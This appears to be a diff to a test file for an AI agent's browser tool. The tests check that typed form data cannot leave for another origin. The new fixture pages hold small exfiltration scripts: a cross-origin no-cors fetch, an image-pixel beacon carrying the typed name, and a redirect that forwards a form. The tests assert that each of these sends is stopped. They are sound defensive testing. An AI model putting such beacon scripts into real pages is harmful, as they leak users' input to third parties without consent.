@@ -1,17 +1,24 @@
 /** Nothing is sent by a page unless the rules or the operator have let the present act send it, whatever script sends it. */
 import { afterAll, beforeAll, describe, expect, it, test } from 'vitest';
 import { browserTools } from '../../../../actors/tools/browser/browser-tools.ts';
+import { outboxOf } from '../../../../actors/tools/browser/outbox.ts';
 import { webPolicy } from '../../../../actors/tools/web/web-policy.ts';
 import { WebRules } from '../../../../roster/web-schema.ts';
 import { type OpenBrowser, openBrowser } from '../../../support/open-browser.ts';
-import { type Site, site } from '../../../support/site.ts';
+import { type Answer, type Site, site } from '../../../support/site.ts';
 
 let shop: Site;
 let other: Site;
 let asks: OpenBrowser;
 let denies: OpenBrowser;
 let allows: OpenBrowser;
+/** What was asked of the other site. */
+const got: string[] = [];
 
+const noted: Answer = ({ url }, response) => {
+  got.push(url!);
+  response.end();
+};
 const form = (more: string, attributes = '') =>
   `<form id=f action=/send method=post ${attributes}><label>Name <input name=name></label>${more}</form>`;
 const pages: Readonly<Record<string, string>> = {
@@ -34,6 +41,8 @@ const typing: Readonly<Record<string, string>> = {
 beforeAll(async () => {
   other = await site({
     '/': '<h1>Another site</h1>',
+    '/plain': noted,
+    '/pixel': noted,
     '/blob': `<script>location = URL.createObjectURL(new Blob(['<h1>Another site</h1>'], { type: 'text/html' }))</script>`,
     '/writes': `<script>const page = open('about:blank'); page.document.write('<h1>Another site</h1>')</script><h1>Writer</h1>`,
   });
@@ -51,6 +60,12 @@ beforeAll(async () => {
     '/gone-writes': `<button onclick="location = '${other.url}/writes'">Next</button>`,
     '/storm': `<h1>Storm</h1><script>setInterval(() => { for (let i = 0; i < 200; i++) fetch('/none') }, 10)</script>`,
     '/send': '<h1>Sent</h1>',
+    '/sent-on': '<form action=/on method=post><label>Name <input name=name></label><button>Next</button></form>',
+    '/on': (_, response) => response.writeHead(307, { location: `${other.url}/` }).end(),
+    '/later': `<form action=/send method=post onsubmit="event.preventDefault(); fetch('/send', { method: 'POST', body: n.value });
+      fetch('${other.url}/', { method: 'POST', mode: 'no-cors', body: n.value })"><label>Name <input id=n></label><button>Next</button></form>`,
+    '/pixel': `<label>Name <input id=n></label><button onclick="new Image().src = '${other.url}/plain';
+      new Image().src = '${other.url}/pixel?' + encodeURIComponent(n.value)">Next</button>`,
   });
   const open = [shop, other].map(({ url }) => new URL(url).host);
   asks = await openBrowser({ open, origins: [shop.url] });
@@ -170,6 +185,47 @@ test('a form that is sent elsewhere than the operator was told is stopped', asyn
   const { base } = await asks.preview('click', next);
   expect(await newOnes(() => asks.run('click', next, base))).toEqual([]);
   expect((await asks.preview('click', next)).text).toContain(`sends a form to ${other.url}/`);
+});
+
+test('a form that is sent on by a redirect to another origin is stopped by the proxy', async () => {
+  await asks.say('goto', { url: `${shop.url}/sent-on` });
+  const { base } = await asks.preview('click', next);
+  const sent = await newOnes(async () => {
+    const said = `${await asks.run('click', next, base).then(({ text }) => text, String)}\n${await asks.say('snapshot', {})}`;
+    expect(said).toContain(`a redirect would send a form on to ${other.url}`);
+  });
+  expect(sent).toEqual(['POST /on name=']);
+});
+
+test('what an operator has allowed ends with the call, and does not reach other origins', async () => {
+  await asks.say('goto', { url: `${shop.url}/later` });
+  await asks.run('fill', { target: 'Name', value: 'Ada Lovelace' });
+  const { ask, base } = await asks.preview('click', next);
+  expect(ask).toBe(true);
+  const { page, context } = await asks.taskPage();
+  const sent = await newOnes(async () => {
+    const { text } = await asks.run('click', next, base);
+    expect(text).toContain(`wanted to send data to ${other.url}/`);
+  });
+  expect(sent).toEqual(['POST /send Ada Lovelace']);
+  const outbox = await outboxOf(
+    context,
+    () => webPolicy(WebRules.parse({})),
+    () => false,
+  );
+  outbox.end(0);
+  expect(await newOnes(() => page.evaluate("fetch('/send', { method: 'POST', body: 'Ada Lovelace' }).catch(() => {})"))).toEqual(
+    [],
+  );
+});
+
+test('what was typed does not leave in the address of a picture of another origin', async () => {
+  await asks.say('goto', { url: `${shop.url}/pixel` });
+  await asks.run('fill', { target: 'Name', value: 'Ada Lovelace' });
+  const said = await asks.say('click', next);
+  expect(said).toContain(`wanted to send data to ${other.url}/pixel?Ada%20Lovelace`);
+  expect(said).not.toContain('plain');
+  expect(got).toEqual(['/plain']);
 });
 
 test('Enter without an element goes to the frame that has the focus, and counts by the form there', async () => {
